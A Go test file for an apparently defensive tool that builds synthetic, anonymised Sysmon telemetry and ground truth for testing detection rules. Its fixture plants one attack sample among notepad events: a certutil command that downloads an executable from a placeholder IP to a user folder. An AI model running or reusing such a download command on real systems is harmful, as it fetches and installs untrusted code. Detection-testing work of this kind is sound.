package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/klauspost/compress/zstd"
)

// recording lays a folder of data with one small recording of our own: the starter
// pack tells attacks from background.
func recording(t *testing.T) string {
	t.Helper()
	data := t.TempDir()
	var text bytes.Buffer
	for i := range 200 {
		command := fmt.Sprintf(`\"C:\\Windows\\System32\\notepad.exe\" C:\\Users\\mira.holm\\note %d.txt`, 1000+i%20)
		if i == 120 {
			command = `certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\mira.holm\\a.exe`
		}
		image := `C:\\Windows\\System32\\notepad.exe`
		if i == 120 {
			image = `C:\\Windows\\System32\\certutil.exe`
		}
		fmt.Fprintf(&text, `{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Hostname":"OLDPC.old.example","RecordNumber":%d,"EventTime":"2024-05-06 12:%02d:%02d","UtcTime":"2024-05-06 10:%02d:%02d.250",`+
			`"ProcessGuid":"{a158f72c-4a97-5de8-0000-00105c30%04d}","ProcessId":"%d","Image":"%s","OriginalFileName":"%s","CommandLine":"%s","ParentImage":"C:\\Windows\\explorer.exe","User":"OLD\\mira.holm","LogonId":"0x5e3f21",`+
			`"Message":"Process Create:\r\nUtcTime: 2024-05-06 10:%02d:%02d.250\r\nProcessId: %d\r\nUser: OLD\\mira.holm\r\nLogonId: 0x5E3F21\r\nHost OLDPC at 192.168.7.9 and 203.0.113.5"}`+"\n",
			i, i/60, i%60, i/60, i%60, i, 4000+4*i, image, filepath.Base(strings.ReplaceAll(image, `\\`, "/")), command, i/60, i%60, 4000+4*i)
	}
	folder := filepath.Join(data, "windows-json")
	if err := os.Mkdir(folder, 0o755); err != nil {
		t.Fatal(err)
	}
	z, err := zstd.NewWriter(nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(folder, "own.ndjson.zst"), z.EncodeAll(text.Bytes(), nil), 0o644); err != nil {
		t.Fatal(err)
	}
	return data
}

func read(t *testing.T, path string) []byte {
	t.Helper()
	text, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return text
}

func TestRun(t *testing.T) {
	data, out := recording(t), t.TempDir()
	file := filepath.Join(out, "fleet.ndjson")
	args := []string{"-data", data, "-rules", filepath.FromSlash("../../rules/starter/rules"), "-days", "3", "-hosts", "12", "-events", "3000", "-episodes", "4", "-out"}
	for _, path := range []string{file, file + ".zst"} {
		if err := run(context.Background(), append(args, path), io.Discard, io.Discard); err != nil {
			t.Fatal(err)
		}
	}
	events := read(t, file)
	z, err := zstd.NewReader(nil)
	if err != nil {
		t.Fatal(err)
	}
	unpacked, err := z.DecodeAll(read(t, file+".zst"), nil)
	if err != nil || !bytes.Equal(unpacked, events) {
		t.Errorf("compressed events are others: %v", err)
	}
	checkEvents(t, events)
	truth := string(read(t, filepath.Join(out, "fleet.truth.ndjson")))
	for _, want := range []string{`{"kind":"about","synthetic":true,`, "never evidence", `"kind":"episode"`, `"source":"windows-json/own.ndjson.zst"`, `"kind":"job"`, `"kind":"rollout"`} {
		if !strings.Contains(truth, want) {
			t.Errorf("the truth lacks %s:\n%s", want, truth)
		}
	}
	var stats bytes.Buffer
	if err := run(context.Background(), []string{"-stats", file + ".zst"}, &stats, io.Discard); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(stats.String(), "3000 events\n") || !strings.Contains(stats.String(), "CommandLine") {
		t.Errorf("statistics:\n%s", stats.String())
	}
	if left, _ := filepath.Glob(filepath.Join(out, "*")); len(left) != 3 {
		t.Errorf("files: %v", left)
	}
}

// checkEvents looks for what was replaced, what was not, and whether the same was
// replaced by the same.
func checkEvents(t *testing.T, events []byte) {
	t.Helper()
	for _, old := range []string{"OLDPC", "old.example", `OLD\\`, "mira.holm", "2024-", "192.168.7.9", "0x5e3f21", "0x5E3F21", "a158f72c"} {
		if bytes.Contains(events, []byte(old)) {
			t.Errorf("%s is left", old)
		}
	}
	if bytes.Count(events, []byte("203.0.113.5\"")) < 2000 {
		t.Error("a public address was replaced")
	}
	part := func(line, begin, end string) string {
		_, rest, _ := strings.Cut(line, begin)
		value, _, _ := strings.Cut(rest, end)
		return value
	}
	for line := range strings.Lines(string(events)) {
		if !strings.Contains(line, `"Message"`) {
			continue
		}
		for _, same := range [][4]string{
			{`"ProcessId":"`, `"`, `\nProcessId: `, `\r`}, {`"UtcTime":"`, `"`, `\nUtcTime: `, `\r`}, {`"User":"`, `"`, `\nUser: `, `\r`},
			{`"Hostname":"`, `.`, `\nHost `, ` `}, {`"EventTime":"`, `"`, `"UtcTime":"`, `.`},
		} {
			if a, b := part(line, same[0], same[1]), part(line, same[2], same[3]); a == "" || a != b {
				t.Fatalf("%q and %q in %s", a, b, line)
			}
		}
	}
}

func TestUsage(t *testing.T) {
	t.Setenv("SOCCTL_DATA", "")
	for want, args := range map[string][]string{
		"-data":          {"-out", "x.ndjson"},
		"-out":           {"-data", "x"},
		"only flags":     {"-data", "x", "-out", "y", "more"},
		"no recordings":  {"-data", ".", "-rules", "../../rules/starter/rules", "-out", "x.ndjson"},
		"from 0 to 1":    {"-noise", "3"},
		"parsing time":   {"-start", "Monday"},
		"no such file":   {"-stats", "missing.ndjson"},
		"no rules":       {"-data", ".", "-rules", ".", "-out", "x.ndjson"},
		"flag provided ": {"-nonsense"},
	} {
		if err := run(context.Background(), args, io.Discard, io.Discard); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%v: %v, want %s", args, err, want)
		}
	}
	var help bytes.Buffer
	if err := run(context.Background(), []string{"-h"}, io.Discard, &help); err == nil || !strings.Contains(help.String(), "never evidence for tuning") {
		t.Errorf("help: %v\n%s", err, help.String())
	}
}
